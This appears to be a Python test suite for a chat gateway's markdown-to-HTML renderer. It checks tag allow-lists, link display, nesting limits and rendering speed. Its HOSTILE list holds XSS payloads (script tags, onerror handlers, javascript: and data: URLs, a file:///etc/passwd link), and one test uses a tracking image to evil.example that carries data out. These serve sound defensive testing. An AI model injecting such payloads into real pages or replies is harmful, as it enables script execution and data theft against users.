from __future__ import annotations

import html
import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.channels.web.markdown import _MATH, QUICK_LIMIT, RENDER_LIMIT_BYTES, has_extras, is_quick, render
from gateway.channels.web.renderer import MarkdownRenderer
from tests.gateway.costly import COSTLY, costly

TAGS = set("a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul".split())
TAGS |= {"details", "summary", "img", "span", "sup", *_MATH}
ATTRIBUTES = {
    ("a", "href"), ("a", "title"), ("a", "rel"), ("a", "target"), ("code", "class"), ("ol", "start"), ("ol", "class"),
    ("td", "align"), ("th", "align"), ("img", "src"), ("img", "alt"), ("span", "class"), ("li", "class"),
    ("p", "class"),
}  # fmt: skip
CLASSES = r"language-[\w+#.-]+|hl-[a-z]|task|notes|formula"


class Reader(HTMLParser):
    """What a browser would find in it."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(source: str) -> Reader:
    reader = Reader(source)
    for tag, attributes in reader.found:
        assert tag in TAGS, source
        for name, value in attributes.items():
            if tag in _MATH:
                assert not name.startswith("on"), source
                assert re.fullmatch(r"[\w +.%-]+", value), source
                continue
            assert (tag, name) in ATTRIBUTES, source
            if name == "href":
                assert urlsplit(value).scheme in ("http", "https", "mailto"), source
            if name == "class":
                assert re.fullmatch(CLASSES, value), source
            if name == "src":
                assert re.match("data:image/(gif|jpeg|png|webp);base64,", value), source
        if tag == "a":
            assert attributes["target"] == "_blank"
            assert set(attributes["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
    return reader


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(http://x)}</style>",
    "<iframe src=//x></iframe><object data=x><embed src=x><base href=//x><form action=//x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
    '[x](http://a.b "t\\" onmouseover=\\"alert(1)")',
    '[x](http://a.b"onclick="alert(1))',
    "```\"><script>alert(1)</script>\n<script>\n```",
    "```x onclick=alert(1)\n```",
    "`<b>` **<b>** *a **b* c** ~~x ~~",
    "|a|b|\n|-|-|\n|<script>|<img src=x>|",
    "a<b <!-- x --> <![CDATA[x]]> <?php ?> </p></div>",
    "[a](http://x/[b](javascript:alert(1)))",
    "\x00<script\x00>alert(1)</script> \ufeff<script>",
    "* " * 200 + "<script>",
    "\u202e[x](http://a)",
    r"$\text{<script>alert(1)</script>}$ $\href{javascript:alert(1)}{x}$ \(<img src=x onerror=alert(1)>\)",
    "$$<mtext><table><mglyph><style><img src=x onerror=alert(1)>$$",
    "```html\n<script>alert(1)</script>\n```\n```python\n'<img src=x onerror=alert(1)>'\n```",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    '![x"onerror="alert(1)](data:image/png;base64,iVBORw0KGgo=) [p](data:image/png;base64,iVBORw0KGgo=)',
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_hostile_page_puts_into_a_reply_comes_out_harmless(text: str) -> None:
    """Scripts, handlers, dangerous addresses and broken markup are text or nothing."""
    assert_harmless(render(text))
    assert_harmless(render(text, extras=True))


_PIECES = st.sampled_from(
    [*HOSTILE, "<", ">", "\"", "'", "`", "```\n", "[", "](", ")", "![", "*", "_", "~~", "|", "\n", "\n\n", "    ", "> ",
     "- ", "1. ", "# ", "http://a.b", "&lt;", "&#60;", "\\", "a", " ", "<a href=", "onclick=", "javascript:",
     "$", "$$", "\\(", "\\)", "\\text{", "\\frac", "}", "^", "[^1]", "[^1]: ", "```python\n", "- [x] ",
     "\\begin{matrix}"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=5)), max_size=30).map("".join))
def test_no_text_whatever_makes_anything_but_the_allowed_tags(text: str) -> None:
    """The allow-list holds for every mixture."""
    assert_harmless(render(text))
    assert_harmless(render(text, extras=True))


def test_an_image_is_a_link_that_nobody_loads() -> None:
    """An image of a foreign host would tell that host that the reply was read, and carry data out in its address."""
    reader = assert_harmless(render("![secret plan](http://evil.example/x.png?d=data)"))
    assert [tag for tag, _ in reader.found] == ["p", "a"]
    assert reader.text.strip() == "secret plan (evil.example)"
    nameless = assert_harmless(render("![](http://evil.example/x.png)"))
    assert nameless.text.strip() == "http://evil.example/x.png"
    linked = assert_harmless(render("[![badge](http://a/b.png)](http://c)"))
    assert [(tag, attributes.get("href")) for tag, attributes in linked.found] == [("p", None), ("a", "http://c")]
    assert linked.text.strip() == "badge (c)"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[your bank](https://evil.example/x)", "your bank (evil.example)"),
        ("[https://good.org](https://evil.org/)", "https://good.org (evil.org)"),
        ("[good.org.evil.org](https://evil.org/)", "good.org.evil.org (evil.org)"),
        ("[good.org](http://good.org@evil.org/)", "good.org (evil.org)"),
        ("[**bold** `c`](https://h.example)", "bold c (h.example)"),
        ("[x](https://\u0430pple.example)", "x (xn--pple-43d.example)"),
        ("[me](mailto:a@b.example)", "me (a@b.example)"),
        ("https://a.example/b", "https://a.example/b"),
        ("[a.example/b](https://a.example/b?c)", "a.example/b"),
        ("<a@b.example>", "a@b.example"),
    ],
)
def test_a_link_says_where_it_leads(text: str, shown: str) -> None:
    """Whatever its label pretends; look-alike letters are spelled out."""
    assert assert_harmless(render(text)).text.strip() == shown


def test_chat_markdown_is_rendered() -> None:
    """Headings, lists, tables with their alignment, code with its language, struck text, line breaks, addresses."""
    rendered = render(
        "# T\n\na\nb ~~c~~ **d** http://x.org/y.\n\n3. x\n\n|l|r|\n|:-|-:|\n|1|2|\n\n```c++\nx < y\n```\n"
    )
    for part in (
        "<h1>T</h1>", "a<br>\nb <s>c</s> <strong>d</strong>", ">http://x.org/y</a>.", '<ol start="3">',
        '<th align="left">l</th>', '<td align="right">2</td>', '<code class="language-c++">x &lt; y\n</code>',
    ):  # fmt: skip
        assert part in rendered


def test_names_of_files_are_no_links() -> None:
    """`setup.py` is not a host in Paraguay."""
    assert "<a" not in render("see setup.py, a.sh, example.com and me@example.com")


@pytest.mark.parametrize("depth", [*range(40, 60), 1000, 30_000])
@pytest.mark.parametrize("mark", ["> ", ">", "- "])
def test_deep_nesting_loses_no_text(mark: str, depth: int) -> None:
    """Blocks that are nested too deeply are shown as they are, and cost nothing."""
    text = mark * depth + "leaf"
    assert "leaf" in assert_harmless(render(text)).text


def test_a_nested_list_far_too_deep_loses_no_text() -> None:
    """The same by indentation."""
    text = "".join("  " * depth + f"- item{depth}\n" for depth in range(100))
    shown = assert_harmless(render(text)).text
    assert all(f"item{depth}" in shown for depth in range(100))


def test_text_over_the_limit_is_shown_as_it_is() -> None:
    """Rendering is work, and a reply can be as large as a model likes."""
    text = "**<b>** " * (RENDER_LIMIT_BYTES // 8 + 1)
    markdown = MarkdownRenderer()
    assert markdown.is_quick(text)
    assert markdown.html(text) == f"<pre>{html.escape(text, quote=False)}</pre>"


def test_a_rendering_is_remembered_and_memory_is_bounded() -> None:
    """The second socket gets the same text at once; old renderings are forgotten."""
    markdown = MarkdownRenderer()
    text = "word " * (QUICK_LIMIT // 5)
    rendered = markdown.html(text)
    assert markdown.html(text) is rendered
    for n in range(1_100):
        markdown.html(f"`{n}` " + "x" * (QUICK_LIMIT - 10))
    assert markdown.html(text) is not rendered


@pytest.mark.parametrize("name", COSTLY)
def test_what_is_rendered_on_the_event_loop_holds_it_for_milliseconds(name: str) -> None:
    """A hostile text is either refused there, or short enough: 60 a minute of them would hold it for seconds."""
    for size in (100, 300, 600, 1_000, QUICK_LIMIT):
        text = costly(name, size)
        began = time.process_time()
        if is_quick(text):
            render(text)
        assert time.process_time() - began < 0.25  # 20 ms on a quiet machine


@pytest.mark.parametrize(
    "text",
    [
        "One line, a [link](http://a.example/b), `code` and **bold**.",
        "# Title\n\n" + "A paragraph of words, as models write them, that goes on for a while.\n\n" * 25,
        "".join(f"{n}. step {n}, which says what to do next\n" for n in range(20)),
        "|name|size|kind|\n|-|-|-|\n" + "|pond|3 m|deep|\n" * 8,
        "```\n" + "for one in range(10):\n    print(one)\n" * 40 + "```\n",
        "It costs $5.",
    ],
)
def test_short_replies_are_rendered_at_once(text: str) -> None:
    """As the usual ones are: they wait for no other process."""
    assert is_quick(text)
    assert not has_extras(text)


@pytest.mark.parametrize(
    "text", ["```python\nx\n```", "> ~~~ c++\n> x\n> ~~~", "so $x$ is", r"\(x\)", "\\[\nx\n\\]", "$$x$$"]
)
def test_code_and_formulas_are_for_the_process_of_the_renderer(text: str) -> None:
    """Its libraries are not for the event loop: lexers are regular expressions of many authors."""
    assert has_extras(text)


def test_code_is_coloured() -> None:
    """Not by colours, which depend on the theme, but by what each word is. An unknown language stays as it is."""
    shown = render("```python\ndef f(): return '<b>'  # so\n```\n```mermaid\ngraph TD; A-->B\n```", extras=True)
    for part in (
        '<span class="hl-k">def </span><span class="hl-f">f</span>', "'&lt;b&gt;'", '<span class="hl-c"># so',
        '<code class="language-mermaid">graph TD; A--&gt;B\n</code>',
    ):  # fmt: skip
        assert part in shown


def test_a_diagram_is_code_with_the_name_of_its_language() -> None:
    """Which the page shows above it, with a button that copies; nothing of it is run."""
    for extras in (False, True):
        shown = assert_harmless(render("```mermaid\ngraph TD\n  A[<b>x</b>]-->B\n```", extras=extras))
        assert ("code", {"class": "language-mermaid"}) in shown.found
        assert shown.text.strip() == "graph TD\n  A[<b>x</b>]-->B"


DETAILS = "<details>\n<summary>**More** & <b>more</b></summary>\n\nhidden *text*\n\n</details>"


@pytest.mark.parametrize(
    "text", [DETAILS, DETAILS.replace("s>", "s open>", 1), f"- item\n\n  {DETAILS}".replace("\n", "\n  ")]
)
def test_details_can_be_folded(text: str) -> None:
    """With Markdown inside; the summary is text."""
    shown = assert_harmless(render(text))
    assert [(tag, attributes) for tag, attributes in shown.found if tag in ("details", "summary", "em")] == [
        ("details", {}), ("summary", {}), ("em", {}),
    ]  # fmt: skip
    assert "**More** & more" in shown.text
    assert "</details>" not in shown.text


def test_details_in_each_other_are_folded_each() -> None:
    inner = DETAILS.replace("**More**", "Inner")
    shown = assert_harmless(render(DETAILS.replace("hidden *text*", inner)))
    assert [tag for tag, _ in shown.found].count("details") == 2


@pytest.mark.parametrize(
    "text",
    [
        "<details>\n\nnever ended",
        "</details>",
        "- <details>\n\n</details>",
        "> <details>\n\n</details>\n\n</details>",
        "<details ontoggle=alert(1)>\n\nx\n\n</details>",
        "<details><script>alert(1)</script>\n\nx\n\n</details>",
        "`<details>`\n\n</details>",
        "```\n<details>\n\n</details>\n```",
    ],
)
def test_what_is_not_exactly_details_stays_text(text: str) -> None:
    """Unbalanced, across a list or a quote, with an attribute, or with other HTML."""
    shown = assert_harmless(render(text))
    assert "details" not in [tag for tag, _ in shown.found]
    assert "details" in shown.text


@pytest.mark.parametrize("text", [r"so $a\,b$ is", r"so \(a\,b\) is", "$$\na\\,b\n$$", "\\[\na\\,b\n\\]"])
def test_a_formula_is_mathml(text: str) -> None:
    """With its backslashes; and without the library it is shown as it was written."""
    shown = assert_harmless(render(text, extras=True))
    assert ("mspace", {"width": "0.167em"}) in shown.found
    assert r"<code>a\,b</code>" in render(text)


@pytest.mark.parametrize("text", ["$5 and $6", "$HOME and $PATH", "a $ b $ c", "`$x$`", r"\$x\$"])
def test_prices_and_variables_are_not_formulas(text: str) -> None:
    assert "<math" not in render(text, extras=True)


@pytest.mark.parametrize("tex", [r"\frac", r"\begin{matrix}", "{" * 3_000, "x" * 5_000, r"\left( x"])
def test_a_formula_that_cannot_be_read_is_shown_as_it_was_written(tex: str) -> None:
    """Its library has errors of its own, and others."""
    shown = assert_harmless(render(f"${tex}$", extras=True))
    assert "code" in [tag for tag, _ in shown.found] or "math" in [tag for tag, _ in shown.found]


def test_tasks_and_notes() -> None:
    """Boxes are characters, that a screen reader reads; notes have no addresses, which several replies would share."""
    shown = render("- [ ] one\n- [x] **two**\n- [z] three\n\nsee[^a]\n\n[^a]: A note.\n")
    assert '<li class="task">☐ one</li>' in shown
    assert '<li class="task">☑ <strong>two</strong></li>' in shown
    assert "<li>[z] three</li>" in shown
    assert "see<sup>[1]</sup>" in shown
    assert '<ol class="notes">\n<li><p>A note.</p>' in shown


def test_a_picture_in_the_text_itself_is_shown() -> None:
    """Nobody learns that it was looked at. SVG can hold scripts, and is not one of them."""
    shown = assert_harmless(render("![a fish](data:image/png;base64,iVBORw0KGgo=)"))
    assert ("img", {"src": "data:image/png;base64,iVBORw0KGgo=", "alt": "a fish"}) in shown.found
    assert "<img" not in render("![a](data:image/svg+xml;base64,PHN2Zz4=)")
